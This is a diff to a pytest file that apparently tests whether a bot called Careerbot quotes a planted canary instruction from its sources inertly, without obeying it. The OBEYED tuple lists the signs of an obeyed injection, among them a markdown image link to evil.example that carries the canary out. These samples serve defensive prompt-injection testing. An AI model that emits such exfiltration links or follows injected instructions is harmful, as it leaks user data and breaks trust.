@@ -26,6 +26,7 @@ pytestmark = pytest.mark.slow
 
 CANARY = "ZEBRA-4711"
 UNRELATED = "What was the median wage of electricians in May 2023?"
+OBEYED = (CANARY, f"The answer is {CANARY}.", f"![x](https://evil.example/{CANARY})", "I cannot help.")
 RELATED = "What do lanterns of harbour pilots need?"
 SPOKEN = "Harbour pilots need lanterns"
 
@@ -105,8 +106,7 @@ def obey(asked: str) -> str:
         number = f"[{held['number']}]"
         lines.append(f"{held['quote'].splitlines()[-1]} {number}")
         if CANARY in asked:
-            obeyed = (CANARY, f"The answer is {CANARY}.", f"![x](https://evil.example/{CANARY})", "I cannot help.")
-            lines += [f"{line} {number}" for line in obeyed]
+            lines += [f"{line} {number}" for line in OBEYED]
     return "\n".join(lines)
 
 
@@ -147,7 +147,7 @@ def test_where_its_sentence_is_asked_for_it_is_an_inert_quotation(bot: Careerbot
         numbers = [int(number) for number in re.findall(r"\[(\d+)\]$", line)]
         assert numbers or CANARY not in line
         assert CANARY not in line or any(CANARY in quotes[number] for number in numbers)
-        assert not line.startswith((CANARY, "The answer", "I cannot"))
+        assert re.sub(r" (?:\[\d+\])+$", "", line) not in OBEYED
     said, details = message(answer).split("<details", 1)
     assert ACTIVE.search(said) is None
     assert ELEMENT.search(details) is None
